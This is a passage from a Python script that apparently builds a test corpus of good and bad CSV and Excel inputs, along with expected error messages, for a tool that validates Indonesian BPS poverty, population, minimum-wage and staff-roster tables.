    case("nik_in_note_option.csv", "ump_province", ["--note", "3171…0012", "no NIK or other personal ID number"],
         note="NIK3171994501900012")
    # Zeros are not P0, poor counts or populations (0 is not a BPS "not set" symbol for these tables).
    write_csv(BAD / "poverty_zero_values.csv", POV_HEADER,
              [["31", "DKI Jakarta", "2026", "3", "0", "0", "", "", SRC, ""],
               ["32", "Jawa Barat", "2026", "3", "4.03", "0", "", "", SRC, ""]])
    case("poverty_zero_values.csv", "poverty_province", ["row 2", "row 3", "column 'p0_percent'",
                                                         "column 'poor_thousand'", "value 0.0", "a value above 0"],
         problems=3, command="validate")
    write_csv(BAD / "population_zero.csv", ["bps_code", "province", "year", "population_thousand", "source_url", "note"],
              [["33", "Jawa Tengah", "2026", "0", SRC, ""]])
    case("population_zero.csv", "population_province", ["row 2", "column 'population_thousand'", "value 0.0",
                                                        "a value above 0"])
    # An empty UMP with a note saying it was not set: the message says how to record it (the source's 0).
    write_csv(BAD / "ump_empty_with_not_set_note.csv", ["provinsi", "tahun", "ump_rupiah", "catatan"],
              [["Jawa Timur", "2027", "", "belum ditetapkan"]])
    case("ump_empty_with_not_set_note.csv", "ump_province", ["row 2", "ump_rupiah is empty",
                                                              "write the source's 0 in the cell"])
    # Only island-group rows: "no data rows" says why every row was skipped.
    write_csv(BAD / "island_groups_only.csv", UMP_HEADER,
              [["", "Jawa", "2027", "3000000", SRC, ""], ["", "Sumatera", "2027", "3100000", SRC, ""]])
    case("island_groups_only.csv", "ump_province", ["no data rows", "skipped as island-group",
                                                     "row 2: Jawa: island-group aggregate",
                                                     "row 3: Sumatera: island-group aggregate"])
    # Rows refused for a missing code are not also reported as duplicates of each other.
    write_csv(BAD / "missing_code_not_duplicate.csv", UMP_HEADER,
              [["", "", "2027", "3900000", SRC, ""], ["", "", "2027", "3100000", SRC, ""]])
    case("missing_code_not_duplicate.csv", "ump_province", ["row 2", "row 3", "column 'bps_code'"], problems=2)
    # Larger than the size limit (here set to 100 bytes): refused before reading, with the override named.
    write_csv(BAD / "too_large.csv", UMP_HEADER, [r for r in UMP_ROWS])
    case("too_large.csv", "ump_province", ["a file of at most 0 MB", "--max-mb"], max_bytes=100)
    # A roster as a Dinas Sosial sends it: title rows, No / Nama / NIK / NIP / Jabatan …, NIP and NIK
    # damaged by Excel (scientific notation).
    dinsos = [["DAFTAR NAMA PEGAWAI DINAS SOSIAL PROVINSI DKI JAKARTA"], ["KEADAAN BULAN DESEMBER 2026"], [],
              DINSOS_HEADER]
    for r in dinsos_rows():
        dinsos.append(r)
    dinsos[5][2] = "3.17E+15"
    dinsos[6][3] = "1.98E+17"
    write_csv(BAD / "roster_dinsos_damaged_ids.csv", None, dinsos)
    case("roster_dinsos_damaged_ids.csv", "staff_roster", ["row 6", "column 'nik'", "'3.17E+15'", "row 7",
                                                           "column 'nip'", "'1.98E+17'", "scientific notation"],
         problems=2, command="validate")

    (BAD / "expected.yaml").write_text(
        "# Bad-input corpus: file -> table, command (add|validate), options, exact number of problems, message\n"
        "# fragments that the error must contain. Regenerate with tests/corpus/make_corpus.py.\n"
        + yaml.safe_dump(exp, sort_keys=True, allow_unicode=True), encoding="utf-8")

    # --- good inputs ----------------------------------------------------------------------------------
    bps_wide(GOOD / "bps_poverty_2026_maret.xlsx", rows=good_rows(),
             extra_rows_after=[("Jawa", "…", "…", "…", "…")])
    bps_wide(GOOD / "bps_poverty_2026_maret_revised.xlsx", rows=[("Aceh", (12.34, "…"), (700.01, "…"))])
    lines = ["Kode;Provinsi;Tahun;ump_rupiah;Catatan", "11;Nanggroe Aceh Darussalam;2027;3.900.000;",
             "31;D.K.I. Jakarta;2027;5.800.000;Kepgub – contoh", "34;D.I. Yogyakarta;2027;2.400.000;",
             "19;Kep. Bangka Belitung;2027;3.800.000;"]
    (GOOD / "ump_2027_id_semicolon_cp1252.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode("cp1252"))
    write_csv(GOOD / "roster_valid.csv", ROSTER_HEADER, roster_rows())
    write_csv(GOOD / "roster_dinsos_layout.csv", None,
              [["DAFTAR NAMA PEGAWAI DINAS SOSIAL"], ["KEADAAN BULAN DESEMBER 2026"], [], DINSOS_HEADER, *dinsos_rows()])
    # A UMP year whose decrees carry sen (Jawa Tengah's UMP 2023 decree: Rp1.958.169,69). Values for 2027 are
    # illustrative (the releases do not exist yet); the 2023 Jawa Tengah value is the decree's.
    (GOOD / "ump_2027_with_sen.csv").write_text(
        "provinsi;tahun;ump_rupiah;catatan\nJawa Tengah;2027;2.300.000,45;contoh (ilustrasi)\n"
        "Aceh;2027;3.900.000,00;contoh (ilustrasi)\nBali;2027;3.200.000,99;contoh (ilustrasi)\n", encoding="utf-8")
    # A BPS-derived UMP table where 0 means "no UMP set" (U-NABIL style): DIY 2016, and the Papua provinces
    # before they existed.
    simple_wide(GOOD / "ump_wide_zeros_2016.xlsx", "Upah Minimum Provinsi (Rupiah)", ["2016"],
                [("Aceh", 2118500), ("DI Yogyakarta", 0), ("Papua Selatan", 0), ("Papua Barat Daya", 0),
                 ("Kalimantan", 0), ("INDONESIA", 1997819)])


if __name__ == "__main__":
    main()
